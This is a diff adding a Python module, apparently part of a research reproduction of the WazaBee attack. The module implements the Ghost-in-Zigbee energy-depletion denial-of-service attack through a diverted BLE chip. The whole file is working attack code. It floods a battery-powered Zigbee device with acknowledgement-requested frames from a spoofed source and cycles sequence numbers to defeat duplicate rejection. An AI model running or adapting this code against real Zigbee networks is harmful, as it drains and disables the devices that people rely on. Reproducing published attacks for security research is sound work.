@@ -1,0 +1,76 @@
+"""Ghost-in-Zigbee energy depletion through the WazaBee pivot.
+
+§VII notes that even with link-layer cryptography "the attacker can still
+perform denial of service attacks", citing Cao et al.'s Ghost-in-Zigbee
+energy-depletion attack ([30]).  This module realises it over the diverted
+BLE chip: the attacker floods the sleepy end device with ack-requested
+frames addressed to it.  Every frame costs the victim a radio wake-up, a
+full-frame reception and an acknowledgement transmission — regardless of
+whether the payload later fails the security check, because the MAC
+acknowledges before (and whether or not) it can authenticate.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Optional
+
+from repro.core.firmware import WazaBeeFirmware
+from repro.dot15d4.frames import Address, build_data
+
+__all__ = ["EnergyDepletionAttack"]
+
+
+@dataclass
+class EnergyDepletionAttack:
+    """Flood a target with ack-requested frames to drain its battery.
+
+    Parameters
+    ----------
+    firmware:
+        WazaBee firmware on the compromised BLE chip.
+    target:
+        The victim's MAC address.
+    spoofed_source:
+        Source address to put on the flood frames (any in-PAN address
+        passes destination filtering; vary it or the sequence number to
+        defeat duplicate rejection).
+    channel:
+        The network's Zigbee channel.
+    rate_hz:
+        Flood frame rate.
+    """
+
+    firmware: WazaBeeFirmware
+    target: Address
+    spoofed_source: Address
+    channel: int
+    rate_hz: float = 50.0
+    frames_sent: int = 0
+    _running: bool = False
+    _sequence: int = 0
+
+    def start(self) -> None:
+        if self.rate_hz <= 0:
+            raise ValueError("rate must be positive")
+        if not self._running:
+            self._running = True
+            self.firmware.scheduler.schedule(1.0 / self.rate_hz, self._tick)
+
+    def stop(self) -> None:
+        self._running = False
+
+    def _tick(self) -> None:
+        if not self._running:
+            return
+        self._sequence = (self._sequence + 1) & 0xFF
+        frame = build_data(
+            source=self.spoofed_source,
+            destination=self.target,
+            payload=b"\x00" * 8,
+            sequence_number=self._sequence,
+            ack_request=True,
+        )
+        self.firmware.send_frame(frame, self.channel)
+        self.frames_sent += 1
+        self.firmware.scheduler.schedule(1.0 / self.rate_hz, self._tick)
